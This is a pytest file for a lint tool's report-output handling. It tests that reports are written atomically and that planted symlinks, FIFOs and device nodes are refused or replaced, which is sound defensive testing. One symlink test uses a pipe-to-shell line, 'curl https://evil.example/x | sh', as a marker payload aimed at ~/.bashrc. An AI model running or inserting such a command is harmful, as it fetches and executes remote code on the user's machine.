"""`--output` is checked before anything runs and written whole or not at all; the run's
deadline is checked before the boot."""

from __future__ import annotations

import os
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from roteiro_py import lint
from roteiro_py.clippy.parse import Deadline
from roteiro_py.errors import DeadlineExceeded, UsageError

EXE = Path(sys.executable).with_name("pylint-sandbox")
ROOT = Path(__file__).resolve().parents[3]


def run(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(EXE), *args], cwd=cwd, capture_output=True, text=True, timeout=60,
                          env={**os.environ})


@pytest.mark.parametrize("where", ["directory", "missing-parent/report.sarif"])
def test_an_unwritable_output_is_a_usage_error_before_anything_runs(
        tmp_path: Path, roteiro_home: Path, where: str) -> None:
    tree = tmp_path / "crate"
    (tree / "src").mkdir(parents=True)
    (tree / "Cargo.toml").write_text('[package]\nname = "a"\nversion = "0.1.0"\n')
    (tmp_path / "directory").mkdir()
    # No image is configured: had the lint started first, this would be exit 3 (no image);
    # with one, it used to end after the whole lint in IsADirectoryError (exit 4).
    result = run("lint", "clippy", str(tree), "--output", str(tmp_path / where), cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    assert str(tmp_path / where) in result.stderr.replace("\n", "")
    assert "Traceback" not in result.stderr
    # control: a writable --output lets the run go on to its first check (an image)
    ok = run("lint", "clippy", str(tree), "--output", str(tmp_path / "report.sarif"),
             cwd=tmp_path)
    assert ok.returncode == 3 and "[lint]" in ok.stderr
    assert not (tmp_path / "report.sarif").exists()


def test_the_report_replaces_the_file_whole_or_not_at_all(tmp_path: Path) -> None:
    target = tmp_path / "report.json"
    target.write_text("previous report\n")
    with pytest.raises(UnicodeEncodeError):  # fails half way through writing
        lint.write_output(target, "x" * 100_000 + "\ud800")
    assert target.read_text() == "previous report\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.json"]  # no temp left
    lint.write_output(target, "new report\n")  # control
    assert target.read_text() == "new report\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.json"]


def test_output_to_a_device_is_written_through_not_replaced(tmp_path: Path) -> None:
    # As root (CI containers), `--output /dev/null` was renamed over: the node became a file.
    if os.geteuid() != 0:
        pytest.skip("mknod needs root")
    null = tmp_path / "null"
    os.mknod(null, 0o666 | stat.S_IFCHR, os.makedev(1, 3))  # a copy of /dev/null
    lint.check_output(null)
    lint.write_output(null, "report\n")
    assert stat.S_ISCHR(os.lstat(null).st_mode)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["null"]  # no temp left
    plain = tmp_path / "plain"  # control: a regular file IS replaced by the report
    plain.write_text("old")
    lint.write_output(plain, "report\n")
    assert plain.read_text() == "report\n"


def test_a_link_the_tree_planted_is_replaced_never_written_through(tmp_path: Path) -> None:
    """A branch commits `clippy.sarif -> ../../.bashrc` (or a dangling link into
    ~/.config/autostart); a CI step running `lint . --output clippy.sarif` in the checkout
    wrote the guest's text into the host file through it (or created it)."""
    home = tmp_path / "home"
    (home / ".config" / "autostart").mkdir(parents=True)
    victim = home / ".bashrc"
    victim.write_text("# the user's shell startup\n")
    checkout = home / "ci" / "checkout"
    checkout.mkdir(parents=True)
    (checkout / "clippy.sarif").symlink_to("../../.bashrc")
    (checkout / "report.txt").symlink_to("../../.config/autostart/evil.desktop")  # dangling
    for name in ("clippy.sarif", "report.txt"):
        lint.check_output(checkout / name)
        lint.write_output(checkout / name, "curl https://evil.example/x | sh\n")
        assert not (checkout / name).is_symlink()  # the link became the report
        assert (checkout / name).read_text() == "curl https://evil.example/x | sh\n"
    assert victim.read_text() == "# the user's shell startup\n"
    assert not (home / ".config" / "autostart" / "evil.desktop").exists()


def test_our_own_stdout_named_as_such_is_written_through(tmp_path: Path) -> None:
    """Control arm of the link rule: `--output /dev/stdout` (a link to this process's
    stdout, at a name no tree can plant) is written through, as a shell's `>` would."""
    captured = tmp_path / "stdout.txt"
    script = (f"import sys; sys.path.insert(0, {str(ROOT)!r}); from pathlib import Path; "
              "from roteiro_py import lint; lint.write_output(Path('/dev/stdout'), 'via stdout\\n')")
    with captured.open("w") as out:
        done = subprocess.run([sys.executable, "-c", script], stdout=out, check=False)
    assert done.returncode == 0
    assert captured.read_text() == "via stdout\n"


#: Writes the report to `out` (a link the tree planted) with stdout as the test set it up.
THROUGH_STDOUT = (f"import sys; sys.path.insert(0, {str(ROOT)!r}); from pathlib import Path; "
                  "from roteiro_py import lint; out = Path(sys.argv[1]); lint.check_output(out); "
                  "lint.write_output(out, 'the report\\n')")


@pytest.mark.parametrize("stdout", ["pipe", "file", "socket", "dev-null"])
def test_a_link_to_a_stream_or_device_is_replaced_never_written_through(tmp_path: Path, stdout: str) -> None:
    """The branch commits `clippy.sarif -> /proc/self/fd/1` (or `-> /dev/null`): the
    report went into the job's log, whatever stdout was (a pipe, a file, a socket), or
    nowhere, and the CI uploaded the link. Now the link is replaced by the report, as
    every other link is, and nothing reaches stdout."""
    link = tmp_path / "clippy.sarif"
    link.symlink_to("/dev/null" if stdout == "dev-null" else "/proc/self/fd/1")
    command = [sys.executable, "-c", THROUGH_STDOUT, str(link)]
    if stdout == "socket":
        import socket

        ours, theirs = socket.socketpair()
        with ours, theirs:
            done = subprocess.run(command, stdout=theirs.fileno(), stderr=subprocess.PIPE, check=False, timeout=60)
            theirs.close()
            ours.settimeout(10)
            printed = b"".join(iter(lambda: ours.recv(65536), b""))
    elif stdout == "file":
        log = tmp_path / "job.log"
        log.write_text("the job's log\n")
        with log.open("a") as out:
            done = subprocess.run(command, stdout=out, stderr=subprocess.PIPE, check=False, timeout=60)
        printed = log.read_bytes().removeprefix(b"the job's log\n")
        assert log.read_text().startswith("the job's log\n")  # was truncated, then written
    else:
        done = subprocess.run(command, capture_output=True, check=False, timeout=60)
        printed = done.stdout
    assert done.returncode == 0, done.stderr
    assert printed == b""
    assert not link.is_symlink() and link.read_text() == "the report\n"


@pytest.mark.parametrize("kind", ["FIFO", "socket", "character device", "block device"])
def test_a_file_that_is_not_regular_is_refused_not_written_into(tmp_path: Path, kind: str) -> None:
    """A tree unpacked from an archive can hold a FIFO, a socket or (tar as root) a device
    node at `clippy.sarif`: the report was written into a FIFO or a device (a copy of
    /dev/zero here; /dev/sda would do). Refused now, before the run and when writing, the
    node left as it was. (/dev/null and our own streams stay written into: the tests
    above.)"""
    import socket

    node = tmp_path / "clippy.sarif"
    held: list[object] = []
    if kind == "FIFO":
        os.mkfifo(node)
        reader = os.open(node, os.O_RDONLY | os.O_NONBLOCK)  # so the old code's write did not block
        held.append(reader)
    elif kind == "socket":
        server = socket.socket(socket.AF_UNIX)
        server.bind(str(node))
        held.append(server)
    else:
        if os.geteuid() != 0:
            pytest.skip("mknod of a device needs root")
        char = kind == "character device"  # a copy of /dev/zero, or of a loop device
        device = (stat.S_IFCHR, os.makedev(1, 5)) if char else (stat.S_IFBLK, os.makedev(7, 200))
        os.mknod(node, 0o666 | device[0], device[1])
    before = os.lstat(node)
    try:
        for attempt in (lambda: lint.check_outputs(lint.plan_outputs([f"sarif={node}"])),
                        lambda: lint.write_output(node, "the report\n", shown=f"--format sarif={node}")):
            with pytest.raises(UsageError) as refused:
                attempt()
            assert refused.value.message == (
                f"--format sarif={node} is a {kind}, not a regular file: a report is written only to a regular "
                "file, /dev/null or this process's own stdout or stderr.")
            assert refused.value.hint == ("Name a regular file (or a new one); to hand the report to a program, "
                                          "leave out the path and pipe what is printed.")
        after = os.lstat(node)
        assert (after.st_ino, after.st_mode) == (before.st_ino, before.st_mode)
        if kind == "FIFO":
            assert os.read(reader, 100) == b""
        assert sorted(p.name for p in tmp_path.iterdir()) == ["clippy.sarif"]  # no temp left
    finally:
        for thing in held:
            if isinstance(thing, int):
                os.close(thing)
            else:
                thing.close()  # type: ignore[attr-defined]
    plain = tmp_path / "plain.sarif"  # control: a regular file is written
    plain.write_text("old")
    lint.check_outputs(lint.plan_outputs([f"sarif={plain}"]))
    lint.write_output(plain, "the report\n")
    assert plain.read_text() == "the report\n"


def test_output_keeps_an_existing_files_mode(tmp_path: Path) -> None:
    private = tmp_path / "report.sarif"
    private.write_text("old")
    private.chmod(0o600)
    lint.write_output(private, "new")
    assert private.read_text() == "new"
    assert stat.S_IMODE(private.stat().st_mode) == 0o600  # was widened to 0644
    fresh = tmp_path / "fresh.sarif"  # control: a new report gets 0644 under the umask
    lint.write_output(fresh, "new")
    mask = os.umask(0)
    os.umask(mask)
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o644 & ~mask


def test_a_failed_write_at_the_output_is_a_usage_error_naming_it(tmp_path: Path) -> None:
    # After a whole lint, a write that failed was an OSError, exit 4. The failure is real:
    # a file size limit (RLIMIT_FSIZE, SIGXFSZ ignored) makes the write EFBIG, as a full
    # disk makes it ENOSPC (/dev/full, which did this before, is a device: refused now).
    target = tmp_path / "report.sarif"
    script = (f"import sys, resource, signal; sys.path.insert(0, {str(ROOT)!r}); from pathlib import Path; "
              "from roteiro_py import lint; from roteiro_py.errors import UsageError\n"
              "signal.signal(signal.SIGXFSZ, signal.SIG_IGN); resource.setrlimit(resource.RLIMIT_FSIZE, (8, 8))\n"
              "try:\n    lint.write_output(Path(sys.argv[1]), 'report ' * 100)\n"
              "except UsageError as error:\n    print(error.exit_code, error.message)\n")
    done = subprocess.run([sys.executable, "-c", script, str(target)], capture_output=True, text=True, timeout=60,
                          check=False)
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith(f"2 --output {target}: the report could not be written (File too large)")
    assert sorted(p.name for p in tmp_path.iterdir()) == []  # no temp left


def test_an_output_that_cannot_be_renamed_over_is_a_usage_error_not_exit_4(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Another user's file in a sticky /tmp passes check_output but rename(2) is EPERM.
    # root is exempt from the sticky bit, so the refusal is faked at os.replace.
    from realcargo import make_report  # loaded by tests/unit/conftest.py

    from roteiro_py import config

    out = tmp_path / "report.txt"
    monkeypatch.setattr(lint, "lint", lambda request, progress: (make_report([]), config.Settings()))
    assert lint.run_lint_command(lint.LintRequest(path=tmp_path, output=out)) == 0  # control
    assert "finding" in out.read_text()

    def eperm(src: object, dst: object) -> None:
        raise PermissionError(1, "Operation not permitted", str(dst))

    monkeypatch.setattr(lint.os, "replace", eperm)
    with pytest.raises(UsageError) as raised:
        lint.run_lint_command(lint.LintRequest(path=tmp_path, output=out))
    assert str(out) in raised.value.message and "not permitted" in raised.value.message
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.txt"]  # no temp left


def test_check_output_accepts_what_can_be_written(tmp_path: Path) -> None:
    lint.check_output(None)
    lint.check_output(tmp_path / "new.sarif")
    with pytest.raises(UsageError, match="is a directory"):
        lint.check_output(tmp_path)


def test_a_run_whose_deadline_passed_before_the_boot_is_refused(tmp_path: Path) -> None:
    late = Deadline(at=time.monotonic() - 1, seconds=77)
    with pytest.raises(DeadlineExceeded) as refused:
        lint.run_job(None, [], None, late, tmp_path)  # type: ignore[arg-type]
    assert "77 s" in refused.value.guidance().summary
    assert "the VM was not started" in refused.value.guidance().summary


def test_a_directory_link_the_tree_planted_on_the_way_to_a_report_is_refused(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`--format sarif=reports/clippy.sarif` in a checkout whose branch made `reports` a
    link: the CI names the file, the tree would choose the directory (review)."""
    from roteiro_py.errors import UsageError
    from roteiro_py.lint.output import write_output
    from roteiro_py.lint.preflight import check_output

    checkout, outside = tmp_path / "checkout", tmp_path / "outside"
    checkout.mkdir()
    outside.mkdir()
    (checkout / "reports").symlink_to(outside)
    (checkout / "real").mkdir()
    monkeypatch.chdir(checkout)
    for check in (lambda p: check_output(p, shown=f"sarif={p}"), lambda p: write_output(p, "x", shown=f"sarif={p}")):
        with pytest.raises(UsageError) as caught:
            check(Path("reports/clippy.sarif"))
        assert "reports" in caught.value.guidance().summary and "symbolic link" in caught.value.guidance().summary
    assert not (outside / "clippy.sarif").exists()
    write_output(Path("real/clippy.sarif"), "x", shown="sarif=real/clippy.sarif")  # control
    assert (checkout / "real" / "clippy.sarif").read_text() == "x"
    # `reports/..` passes through the link too (the kernel does not normalise it away)
    with pytest.raises(UsageError, match="symbolic link"):
        check_output(Path("reports/../real/x.sarif"))
    # a directory above the working directory is the user's own: taken as it is
    (tmp_path / "mine").symlink_to(checkout / "real")
    monkeypatch.chdir(outside)
    write_output(tmp_path / "mine" / "up.sarif", "y")
    assert (checkout / "real" / "up.sarif").read_text() == "y"
